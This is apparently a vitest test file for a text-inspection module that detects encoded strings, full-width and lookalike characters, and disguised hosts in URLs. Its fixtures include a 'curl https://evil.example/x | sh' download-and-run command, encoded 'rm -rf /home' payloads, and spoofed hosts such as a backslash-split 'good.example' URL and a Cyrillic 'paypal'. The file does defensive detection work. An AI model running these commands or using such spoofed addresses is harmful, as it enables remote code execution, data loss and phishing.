import { describe, expect, it } from 'vitest';
import {
  addressesIn,
  decodeEncoded,
  escapeText,
  findings,
  headAndTail,
} from '../../../src/display';

const only = (kind: string, text: string) => findings(text).filter((found) => found.kind === kind);
const hex = (bytes: Iterable<number>): string =>
  Array.from(bytes, (byte) => byte.toString(16).padStart(2, '0')).join('');
const noise = (length: number): number[] => Array.from({ length }, (_, i) => (i * 151 + 77) % 256);
const base64 = (bytes: readonly number[]): string => btoa(String.fromCharCode(...bytes));

describe('full-width letters', () => {
  it('are how Chinese, Japanese and Korean are written, within one word', () => {
    for (const text of ['東京ｒｍ', 'ｒｍ東京', '大阪（ｒｍ）', '값ｒｍ'])
      expect(only('compatibility', text)).toEqual([]);
  });

  it('hide something in a word of their own, or far from such letters', () => {
    for (const text of ['東京 ｒｍ', 'ｒｍ 東京', '東京\nｒｍ'])
      expect(only('compatibility', text)).toMatchObject([{ count: 2, detail: 'rm' }]);
    expect(only('compatibility', `ｒ${'x'.repeat(32)}東`)).toHaveLength(1);
    expect(only('compatibility', `東${'x'.repeat(32)}ｒ`)).toHaveLength(1);
    expect(only('compatibility', `東${'x'.repeat(31)}ｒ`)).toEqual([]);
    expect(only('compatibility', `ｒ${'x'.repeat(30)}東`)).toEqual([]);
  });

  it('of other kinds are not among them', () => {
    expect(only('compatibility', '東京\u{1D42B}\u{1D426}')).toMatchObject([{ detail: 'rm' }]);
    expect(only('compatibility', '東京\u24E1')).toMatchObject([{ detail: 'r' }]);
  });

  it('keep their marks of punctuation quiet anywhere in such a text, and nowhere else', () => {
    expect(only('compatibility', '東京 OK！')).toEqual([]);
    expect(only('compatibility', 'OK！')).toMatchObject([{ at: 2, detail: '!' }]);
  });
});

describe('numerals and raised letters', () => {
  it.each(['Ⅳ', 'see Ⅳ.', 'x\u02B0', 'x\u02B0 y\u02B2'])('are quiet alone: %j', (text) => {
    expect(only('compatibility', text)).toEqual([]);
  });

  it.each([
    ['Ⅳa', 'IV'],
    ['aⅣ', 'IV'],
    ['\u02B0\u02B2', 'hj'],
  ])('are found within words and in rows: %j', (text, detail) => {
    expect(only('compatibility', text)).toMatchObject([{ detail }]);
  });
});

describe('what compatibility forms say', () => {
  it('is where the first stands, how long it is and how many there are', () => {
    expect(only('compatibility', 'x \u{1D42B}\u{1D426}')).toEqual([
      { kind: 'compatibility', at: 2, length: 2, count: 2, detail: 'rm' },
    ]);
    expect(only('compatibility', 'a\uFF1Bb')).toEqual([
      { kind: 'compatibility', at: 1, length: 1, count: 1, detail: ';' },
    ]);
  });

  it('is a sample of many', () => {
    expect(only('compatibility', '\uFF52'.repeat(100))).toEqual([
      { kind: 'compatibility', at: 0, length: 1, count: 100, detail: 'r'.repeat(32) },
    ]);
  });

  it('is the same the second time, and for pairs that share a first half', () => {
    const text = '\u{1D7CE} \u{1D42B}';
    for (let time = 0; time < 2; time += 1)
      expect(only('compatibility', text)).toMatchObject([{ at: 3, count: 1, detail: 'r' }]);
  });
});

const text = 'curl https://evil.example/x | sh';

describe('encoded text is long', () => {
  it('from 24 letters of base64 on where it stands for text', () => {
    expect(only('encoded', btoa(text.slice(0, 18)))).toMatchObject([
      { at: 0, length: 24, detail: '18' },
    ]);
    expect(only('encoded', btoa(text.slice(0, 15)))).toEqual([]);
  });

  it('from 64 letters of base64 on where it stands for bytes', () => {
    expect(only('encoded', base64(noise(48)))).toMatchObject([{ length: 64, detail: '48' }]);
    expect(only('encoded', base64(noise(45)))).toEqual([]);
  });

  it('from 130 digits of hex on where it stands for bytes: hashes are shorter', () => {
    expect(only('encoded', hex(noise(65)))).toMatchObject([{ length: 130, detail: '65' }]);
    expect(only('encoded', hex(noise(64)))).toEqual([]);
    expect(only('encoded', '0123456'.repeat(30))).toEqual([]);
    expect(only('encoded', '01234567'.repeat(30))).toMatchObject([{ detail: '120' }]);
  });

  it('where hex stands for text, and is more than a number', () => {
    expect(only('encoded', hex(Buffer.from('rm -rf /home')))).toMatchObject([{ detail: '12' }]);
    expect(only('encoded', '303132333435363738393031')).toEqual([]);
  });

  it('where two escapes hide letters or digits, or 32 hide anything', () => {
    expect(only('encoded', 'x%72%6dab%20y')).toMatchObject([{ at: 1, detail: '6' }]);
    expect(only('encoded', '%72%20%20')).toEqual([]);
    expect(only('encoded', '%D0%9F'.repeat(16))).toMatchObject([{ length: 96, detail: '32' }]);
    expect(only('encoded', '%D0%9F'.repeat(15))).toEqual([]);
    for (const plain of ['%30%39', '%41%4f', '%50%5A', '%61%6F', '%70%7a'])
      expect(only('encoded', `${plain}%20`)).toMatchObject([{ detail: '3' }]);
    for (const sign of ['%40%5b', '%60%7B', '%20%2F'])
      expect(only('encoded', `${sign}%20`)).toEqual([]);
  });

  it('and is not a word, a path or a name', () => {
    for (const word of [
      'ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOP',
      'abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcdefghijklmnop',
      'home/user/projects/acme/Website/source/components/buttons/primary/index2',
    ])
      expect(only('encoded', word)).toEqual([]);
  });

  it('is one finding over line ends, and two where other text stands between', () => {
    const one = btoa(text);
    expect(only('encoded', `${one}, ${one}`)).toMatchObject([{ length: 90, detail: '64' }]);
    expect(only('encoded', `${one} or ${one}`)).toMatchObject([
      { at: 0, length: 44, detail: '32' },
      { at: 48, length: 44, detail: '32' },
    ]);
  });

  it('is told of a hundred times', () => {
    expect(only('encoded', `${btoa(text)} and `.repeat(150))).toHaveLength(100);
  });

  it('is found wherever it begins', () => {
    for (let before = 0; before < 30; before += 1)
      expect(only('encoded', `${' '.repeat(1)}${'. '.repeat(before)}${btoa(text)}`)).toMatchObject([
        { at: 1 + 2 * before, length: 44 },
      ]);
  });
});

describe('data and text in base64 and hex', () => {
  /** So many letters, digits and capitals in turn, which stand for no text. */
  const letters = (length: number, of: readonly string[]): string =>
    Array.from({ length }, (_, i) => {
      const from = of[i % of.length] ?? '';
      return from.charAt((i * 7 + 3) % from.length);
    }).join('');
  const [small, large, digits] = ['zyxwvutsrqponmlkj', 'ZYXWVUTSRQPONML', '9876543210'];

  it('are data with small and large letters and digits among them, a quarter of them not small', () => {
    expect(only('encoded', letters(64, [small, large, digits, small]))).toHaveLength(1);
    for (const of of [
      [small, large],
      [large, digits],
      [small, digits],
    ])
      expect(only('encoded', letters(64, of))).toEqual([]);
    const rest = letters(48, [small]);
    expect(only('encoded', `${rest}${letters(16, [large, digits])}`)).toHaveLength(1);
    expect(only('encoded', `z${rest}${letters(15, [large, digits])}`)).toEqual([]);
  });

  it('are text only where the bytes are, with lines and tabs and no other controls', () => {
    const found = (text: string) => only('encoded', base64([...new TextEncoder().encode(text)]));
    expect(found('rm -rf\n/home\tx; reboot')).toHaveLength(1);
    expect(found('rm -rf /home\u0001 reboot')).toEqual([]);
    expect(only('encoded', base64(Array.from({ length: 30 }, () => 0xe9)))).toEqual([]);
    expect(only('encoded', btoa(text).slice(0, 25))).toEqual([]);
  });

  it('are judged by their beginning, though a letter be cut there', () => {
    const bytes = new TextEncoder().encode(`x${'\u00E4'.repeat(2100)}`);
    expect(only('encoded', hex(bytes))).toMatchObject([{ detail: '4201' }]);
    expect(only('encoded', `${hex(bytes)}7`)).toMatchObject([{ detail: '4201' }]);
  });
});

describe('decoding', () => {
  it('takes blanks from the ends, and no sign of padding from within', () => {
    expect(decodeEncoded(' 726D\n')).toBe('rm');
    expect(decodeEncoded(' a%20b\n')).toBe('a b');
    expect(decodeEncoded('YQ==')).toBe('a');
    expect(decodeEncoded('aG=kh')).toBeNull();
    expect(decodeEncoded('Pz8_')).toBe('???');
    expect(decodeEncoded('Pz8/')).toBe('???');
  });

  it('reads percent escapes among other text, and hex in capitals', () => {
    expect(decodeEncoded('a%20b')).toBe('a b');
    expect(decodeEncoded('726D')).toBe('rm');
    expect(decodeEncoded('726')).toBeNull();
  });

  it('keeps a mark of byte order, which is a character too', () => {
    expect(decodeEncoded(base64([0xef, 0xbb, 0xbf, 0x61]))).toBe('\uFEFFa');
  });

  it('reads base64 with and without its padding, over several lines', () => {
    expect(decodeEncoded('aGkh')).toBe('hi!');
    expect(decodeEncoded('aGk=')).toBe('hi');
    expect(decodeEncoded('aGk')).toBe('hi');
    expect(decodeEncoded('aG\nkh')).toBe('hi!');
    expect(decodeEncoded('aGkhI')).toBeNull();
  });
});

describe('addresses', () => {
  it('end before what closes a sentence', () => {
    const [address] = addressesIn('(https://a.example/x).');
    expect(address).toMatchObject({ at: 1, length: 19, host: 'a.example' });
  });

  it('have the text before the last @ that is not the site', () => {
    expect(addressesIn('https://a@b@c.example/')).toMatchObject([
      { host: 'c.example', written: 'c.example', userinfo: 'a@b' },
    ]);
  });

  it('stand whole in what is found of them', () => {
    expect(only('host', 'to https://a@b.example/x now')).toEqual([
      { kind: 'host', at: 3, length: 21, count: 1, detail: 'b.example' },
    ]);
    expect(only('userinfo', 'to https://a@b.example/x now')).toEqual([
      { kind: 'userinfo', at: 3, length: 21, count: 1, detail: 'a' },
    ]);
  });

  it.each(['https://ex\u00E4mple.com', 'https://EX\u00C4MPLE.com:80/', 'http://a.example:8080/'])(
    'that lead where they say are quiet: %j',
    (text) => {
      expect(only('host', text)).toEqual([]);
    },
  );

  it.each([
    'https://a\u00ADb.example',
    'https://\u2460.example',
    'https://b\u03BFb.example',
    'https://\u0440\u0430\u0441\u0435.example',
    'https://x.p\u0430ypal\u3002com',
  ])('whose host is written otherwise are found: %j', (text) => {
    expect(only('host', text)).toHaveLength(1);
  });
});

describe('hosts of several scripts', () => {
  it.each([
    ['Latin and a Greek letter that looks like none', 'https://a\u03BBb.example'],
    ['Latin, Chinese and Cyrillic', 'https://a\u4E2D\u0431.example'],
    ['Latin, Chinese and Armenian', 'https://a\u4E2D\u0562.example'],
  ])('in one label are found: %s', (_, text) => {
    expect(only('host', text)).toHaveLength(1);
  });

  it.each([
    ['Latin and Chinese in one label', 'https://a\u4E2D.example'],
    [
      'one script a label',
      'https://my_host.m\u00FCnchen.\u043F\u0440\u0438\u0432\u0435\u0442.example',
    ],
    ['Greek alone', 'https://\u03BB\u03CC\u03B3\u03BF\u03C2.example'],
    ['numbers of the sixth version', 'http://[::1]:8080/'],
  ])('are quiet with %s', (_, text) => {
    expect(only('host', text)).toEqual([]);
  });

  it('are split behind a backslash, wherever the address stands', () => {
    const text = 'https://a.example/ and https://good.example\\@evil.example/';
    expect(only('host', text)).toMatchObject([{ at: 23, detail: 'good.example' }]);
    expect(only('host', 'https://a.example\\b and https://a.example/')).toHaveLength(1);
  });
});

describe('head and tail at their limits', () => {
  it('measure a text as it is shown', () => {
    const run = ' '.repeat(3000);
    expect(headAndTail(`${'x'.repeat(586)}${run}y`)).toBeNull();
    expect(headAndTail(`${'x'.repeat(587)}${run}y`)).not.toBeNull();
    const lines = Array.from({ length: 12 }, (_, i) => `line ${i}`);
    expect(headAndTail(`a${run}${lines.join('\n')}`)).toBeNull();
    expect(headAndTail(`a${run}${lines.join('\n')}\nz`)).not.toBeNull();
  });

  it('begin with an empty line where the text does', () => {
    const text = Array.from({ length: 20 }, (_, i) => `\n${i}`).join('');
    expect(headAndTail(text)).toMatchObject({
      head: '\n0\n1\n2\n3\n4\n5\n6\n',
      tail: '16\n17\n18\n19',
    });
    expect(headAndTail(`\n${'x'.repeat(1000)}`)).toMatchObject({ omitted: 401 });
  });

  it('are needed from one character and one line more on', () => {
    expect(headAndTail('x'.repeat(601))).toEqual({
      head: 'x'.repeat(400),
      tail: 'x'.repeat(200),
      omitted: 1,
    });
    expect(headAndTail(Array.from({ length: 12 }, () => 'x').join('\n'))).toBeNull();
    const lines = headAndTail(Array.from({ length: 13 }, () => 'x').join('\n'));
    expect(lines).toEqual({ head: 'x\n'.repeat(8), tail: 'x\nx\nx\nx', omitted: 2 });
  });

  it('are of what is written, where a text is too long to be measured as shown', () => {
    expect(headAndTail(`a${' '.repeat(19_998)}b`)).toBeNull();
    expect(headAndTail(`a${' '.repeat(19_999)}b`)?.head).toHaveLength(400);
  });

  it('cut at a letter of several characters, however long, or where it would never end', () => {
    const marks = '\u0301'.repeat(100);
    const cut = headAndTail(`e${marks}`.repeat(20), 150);
    expect(cut?.head).toBe('');
    expect(cut?.tail).toBe(`e${marks}`);
    expect(headAndTail(`e${'\u0301'.repeat(25_000)}`, 1500)?.head.length).toBe(1000);
  });
});

describe('mixed words', () => {
  const word = 'p\u0430y';

  it('are counted wherever they stand, near each other and far apart', () => {
    for (const gap of [1, 5, 10, 11, 12, 13, 23, 24, 25, 26, 100]) {
      const between = ' '.repeat(1) + '. '.repeat(gap);
      const text = `${between}${word}${between}${word}`;
      expect(only('lookalike', text)).toEqual([
        { kind: 'lookalike', at: between.length, length: 2, count: 2 },
      ]);
    }
  });

  it('may hold digits, marks and underscores between their letters, up to eight', () => {
    for (const between of ['1', '_', '\u0301', '12345678']) {
      expect(only('lookalike', `q${between}\u0430`)).toHaveLength(1);
      expect(only('lookalike', `\u0430${between}q`)).toHaveLength(1);
    }
    expect(only('lookalike', 'q123456789\u0436')).toEqual([]);
    expect(only('lookalike', 'q-\u0436')).toEqual([]);
  });

  it('are words of look-alikes in a text that is Latin otherwise', () => {
    expect(only('lookalike', 'run \u0441\u043E\u0440\u0443, \u0441\u043E and x')).toEqual([
      { kind: 'lookalike', at: 4, length: 4, count: 2 },
    ]);
    for (const text of [
      'run \u0441\u043E\u0440\u0443\u044F',
      'run \u044F\u0441\u043E',
      'run \u0441',
      '\u0441\u043E\u0440\u0443',
    ])
      expect(only('lookalike', text)).toEqual([]);
  });
});

describe('blank lines', () => {
  it('hold blanks of any kind', () => {
    expect(escapeText('a\n\u00A0\n\t\n\n\n\nb')).toBe(
      'a\n⟨6 blank lines: U+000A LF, U+00A0 NBSP, U+000A LF, U+0009 TAB, 4 × U+000A LF⟩\nb',
    );
  });
});
